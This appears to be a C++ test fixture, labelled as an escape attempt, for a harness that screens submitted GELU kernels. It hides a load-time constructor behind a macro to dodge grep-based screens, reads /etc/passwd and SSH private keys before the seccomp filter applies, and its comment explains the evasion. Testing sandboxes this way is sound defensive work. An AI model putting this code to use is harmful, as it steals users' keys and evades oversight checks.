// WRONG (escape attempt): a load-time hook spelled through a macro (`AT_LOAD` expands to
// `__attribute__((__constructor__(101)))`, the reserved spelling with a priority, so a
// screen that greps for "constructor(" or "((constructor))" misses it) reads files of the
// host with std::ifstream: /etc/passwd and the ssh keys of $HOME, kept in memory for
// whatever comes next (a later call could leak them into an output, a timing pattern or
// a file). It runs inside dlopen(), before today's seccomp filter; the kernel is an exact
// tanh GELU. Caught only by a sandbox around the load (no host filesystem, the filter
// before dlopen) or a screen that sees through the macro.
// expect: refused-or-forbidden-syscall
#include <cmath>
#include <cstdint>
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>

#define AT_LOAD __attribute__((__constructor__(101)))

namespace {

std::string loot;

AT_LOAD void gather() {
  const char* home = std::getenv("HOME");
  for (const std::string& path : {std::string("/etc/passwd"),
                                  std::string(home ? home : "/root") + "/.ssh/id_ed25519",
                                  std::string(home ? home : "/root") + "/.ssh/id_rsa"}) {
    std::ifstream in(path);
    std::stringstream text;
    text << in.rdbuf();
    loot += text.str();
  }
}

}  // namespace

extern "C" void ollie_kernel(const float* x, float* out0, const int64_t* dims) {
  const int64_t n = dims[0] * dims[1];
  for (int64_t i = 0; i < n; ++i) {
    const double v = x[i];
    out0[i] = float(0.5 * v * (1.0 + std::tanh(0.7978845608028654 * (v + 0.044715 * v * v * v))));
  }
  if (loot.size() == 1) out0[0] += 0.0f;  // keep `loot` alive
}
